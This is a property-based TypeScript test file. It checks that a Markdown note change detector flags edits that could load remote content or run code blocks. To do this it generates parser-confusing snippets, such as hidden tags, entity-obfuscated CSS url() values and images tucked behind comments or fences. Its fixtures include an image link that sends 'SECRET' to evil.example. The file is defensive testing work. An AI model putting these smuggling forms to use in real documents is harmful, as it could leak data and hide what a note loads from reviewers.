/** Text that one parser sees and another takes for part of something else. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { address, addedParts, everyVariantIsUncertain, placed } from './uncertain-variants';

const IMAGE = '![x](https://evil.example/p.png?q=SECRET)';

/** An address without escapes, for HTML. */
const plainAddress = address.filter((each) => !/[\\&]/.test(each));

/** Checks that a change of the end of such text is uncertain, in generated notes. */
function everyRedirectionIsUncertain(note: fc.Arbitrary<(end: string) => string>): void {
  const seen = new Set<string>();
  fc.assert(
    fc.property(note, (write) => {
      const [before, after] = [write('one'), write('two')];
      seen.add(before);
      expect(addedParts('Note.md', before, before.replace('Words', 'More words'))).toEqual([]);
      expect(addedParts('Note.md', before, after)).not.toEqual([]);
    }),
    { numRuns: 150 },
  );
  expect(seen.size).toBeGreaterThanOrEqual(50);
}

describe('text that is read in several ways', () => {
  test('an element is uncertain whose attributes contain what looks like another tag', () => {
    const inner = fc.constantFrom(
      '<x.y ',
      '<a.b',
      '<T ',
      '<b',
      '<a ',
      '<x_y z="',
      '<i\t',
      '< <q.r ',
    );
    const element = fc
      .record({
        name: fc.constantFrom('img', 'video', 'IMG', 'input', 'audio'),
        harmless: fc.constantFrom('alt', 'title', 'class', 'data-x', 'unheard'),
        quote: fc.constantFrom('"', "'"),
        before: fc.constantFrom('', 'words ', 'a > b '),
        inner,
        address: plainAddress,
      })
      .map(
        (each) =>
          `<${each.name} ${each.harmless}=${each.quote}${each.before}${each.inner.replace('"', each.quote === '"' ? "'" : '"')}${each.quote} src=${each.quote}${each.address}${each.quote}>`,
      );
    everyVariantIsUncertain(placed(element));
  });

  test('an element is uncertain whose attributes are apart by blanks that HTML does not know', () => {
    const element = fc
      .record({
        blank: fc.constantFrom('\u00a0', '\u2003', '\u3000', '\u2028', '\u000b'),
        quote: fc.constantFrom('"', "'"),
        address: plainAddress,
        words: fc.constantFrom('x', 'a b', ''),
      })
      .map(
        (each) => `<img alt=${each.blank}${each.quote}${each.words} src=${each.address} title=x>`,
      );
    everyVariantIsUncertain(placed(element));
  });

  test('a style is uncertain that is written with named entities', () => {
    const value = fc.constantFrom(
      'url&lpar;https:evil.example)',
      'url&#40;https:evil.example)',
      'url(h&Tab;ttps&colon;evil.example)',
      '&nbsp;url&lpar;&sol;&sol;evil.example&rpar;',
    );
    const element = fc
      .record({
        name: fc.constantFrom('rect', 'path', 'g', 'circle'),
        attribute: fc.constantFrom('fill', 'mask', 'filter', 'clip-path', 'marker-end', 'stroke'),
        value,
      })
      .map(({ name, attribute, value: to }) => `<svg><${name} ${attribute}="${to}"/></svg>`);
    everyVariantIsUncertain(placed(element));
  });

  test('an image is uncertain that follows a code fence within a comment', () => {
    const fence = fc.constantFrom('```', '~~~', '````js', '```text');
    const note = fc
      .record({
        fence,
        open: fc.constantFrom('%%', 'Words %% more', '50%% off', 'Use `%%` here', '\\%% a', '> %%'),
        close: fc.constantFrom('%%', 'end %%', '%% end'),
        gap: fc.constantFrom('\n', '\n\n', '\nwords\n'),
        after: fc.constantFrom('', '\n```', '\n\n~~~', '\n%%'),
      })
      .map(
        (each) =>
          `${each.open}${each.gap}${each.fence}${each.gap}${each.close}\n\n${IMAGE}\n${each.after}`,
      );
    everyVariantIsUncertain(note);
  });

  test('an image is uncertain that follows a backtick within a comment', () => {
    const note = fc
      .record({
        open: fc.constantFrom('%%', '%% a', 'a %% b'),
        code: fc.constantFrom('`', '``', '```'),
        words: fc.constantFrom('x', 'some words', 'ä', '1', 'x\ny'),
        gap: fc.constantFrom('\n\n', '\n\n\n', '\n\nWords.\n\n'),
      })
      .map(
        ({ open, code, words, gap }) => `${open}${gap}b ${code}${words} %% ${IMAGE} ${code} c\n`,
      );
    everyVariantIsUncertain(note);
  });

  test('an image by reference is uncertain whose label begins with a caret', () => {
    const image = fc
      .record({
        label: fc.constantFrom('^a b', '^', '^1 2', '^ß x', '^a\nb'),
        address,
        form: fc.nat(3),
        gap: fc.constantFrom('', ' ', '\n'),
      })
      .map(({ label, address: to, form, gap }) => {
        const images = [`![x][${label}]`, `![${label}]`, `![${label}][]`, `![a [b]][${label}]`];
        return `${images[form] ?? ''}\n\n[${label}]:${gap}${to}`;
      });
    everyVariantIsUncertain(image);
    everyVariantIsUncertain(
      fc
        .record({
          alt: fc.constantFrom('', 'x', 'a b'),
          address,
          label: fc.stringMatching(/^\w{1,9}$/),
        })
        .map(({ alt, address: to, label }) => `![${alt}][^${label}]\n\n[^${label}]: ${to}`),
    );
  });

  test('an image is uncertain within what looks like the title of another', () => {
    const image = fc
      .record({
        target: fc.constantFrom('a(', 'a.png', '(a', 'a(b(c)', '<a', 'x)('),
        quote: fc.constantFrom('"', "'"),
        words: fc.constantFrom('', 'title ', 'a (', 'a) '),
        address,
      })
      .map(
        ({ target, quote, words, address: to }) =>
          `![x](${target} ${quote}${words}![y](${to})${quote})`,
      );
    everyVariantIsUncertain(placed(image));
  });
});

describe('text that redirects what a note loads', () => {
  const length = fc.integer({ min: 0, max: 600 });
  const long = (count: number) => 'a'.repeat(count);

  test('a change at the end of an address is uncertain however long the address is', () => {
    everyRedirectionIsUncertain(
      fc.record({ length, form: fc.nat(6) }).map(({ length: count, form }) => (end: string) => {
        const to = `https://evil.example/${long(count)}`;
        const forms = [
          `![x](${to}${end})`,
          `![x](${to}(b)${end})`,
          `![x](${to}(b(c))/${end}?(d))`,
          `![x][ref]\n\n[ref]: ${to}${end}`,
          `![x [y](${to}](z)${end} "t")`,
          `[x](<obsidian://open?${long(count)} ${end}>)`,
          `<img alt="<x.y " src="${to}${end}">`,
        ];
        return `Words.\n\n${forms[form] ?? ''}\n`;
      }),
    );
  });

  test('a change of a block that runs is uncertain also below a fence in a deeper quote or list', () => {
    everyRedirectionIsUncertain(
      fc
        .record({
          language: fc.constantFrom('dataviewjs', 'js-engine', 'button'),
          marks: fc.constantFrom('```', '~~~', '````'),
          put: fc.constantFrom('', '> ', '- ', '  ', '1. '),
          deeper: fc.constantFrom('> ', '> > ', '          '),
        })
        .map(({ language, marks, put, deeper }) => {
          const inner = put.replace(/[-1.]/g, ' ');
          return (end: string) =>
            `Words.\n\n${put}${marks}${language}\n${inner}a\n${inner}${deeper}${marks}\n${inner}${end}\n${inner}${marks}\n`;
        }),
    );
  });

  test('a change below a block that runs is certain', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('', '> ', '- ', '  ', '1. '),
        fc.constantFrom('```', '~~~~'),
        (put, marks) => {
          const inner = put.replace(/[-1.]/g, ' ');
          const block = `${put}${marks}dataviewjs\n${inner}x\n${inner}${marks}`;
          const [before, after] = [`${block}\n\nWords.\n`, `${block}\n\nMore words.\n`];
          expect(addedParts('Note.md', before, after)).toEqual([]);
        },
      ),
    );
  });
});
